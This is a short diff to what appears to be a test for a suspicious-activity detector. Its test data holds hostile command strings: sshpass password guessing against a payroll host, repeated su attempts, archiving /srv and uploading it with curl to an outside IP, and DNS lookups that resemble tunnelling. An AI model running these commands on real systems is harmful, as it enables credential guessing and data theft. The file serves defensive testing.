@@ -150,7 +150,7 @@ test('a reason names programs, and nothing that they are given', () => {
   const tries = [
     times(6, (i) => `sshpass -p pw${i} ssh anna@payroll id`),
     times(6, () => 'su anna -c id'),
-    ['tar czf /home/anna/payroll.tgz /srv', 'curl -T /home/anna/payroll.tgz http://203.0.113.9/u'],
+    ['tar czf /srv/payroll.tgz /srv', 'curl -T /srv/payroll.tgz http://203.0.113.9/u'],
     times(6, (i) => `dig payroll${label(i)}.t.example`),
   ]
   for (const commands of tries) {
